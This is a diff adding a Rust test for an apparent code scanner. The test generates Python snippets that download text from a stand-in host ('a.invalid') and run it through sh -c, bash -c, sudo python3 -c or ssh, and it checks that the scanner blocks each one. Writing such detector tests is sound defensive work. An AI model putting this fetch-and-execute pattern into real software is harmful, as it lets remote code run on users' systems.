@@ -106,3 +106,25 @@ fn what_an_interpreter_is_given_is_code_whatever_it_looks_like() {
     let broken = manifest("node -e 'const = ;'");
     assert_eq!(screened(&[("package.json", broken.as_bytes())]).verdict, Verdict::Incomplete);
 }
+
+#[test]
+fn a_fixed_program_that_runs_its_words_does_not_hide_what_it_is_given() {
+    let of = |words: &str| {
+        let code = format!(
+            "import subprocess, requests\nx = requests.get('https://a.invalid/x').text\nsubprocess.run([{words}])\n"
+        );
+        screened(&[("main.py", code.as_bytes())]).verdict
+    };
+    for words in [
+        "'sh', '-c', x",
+        "'timeout', '5', 'bash', '-c', x",
+        "'sudo', '-E', 'python3', '-c', x",
+        "'ssh', 'host', x",
+        "x",
+    ] {
+        assert_eq!(of(words), Verdict::Block, "{words}");
+    }
+    // What such a program prints, or a file that it reads, is its own matter.
+    assert_eq!(of("'say', x"), Verdict::NoFindings);
+    assert_eq!(of("'python3', 'tools/show.py', x"), Verdict::NoFindings);
+}
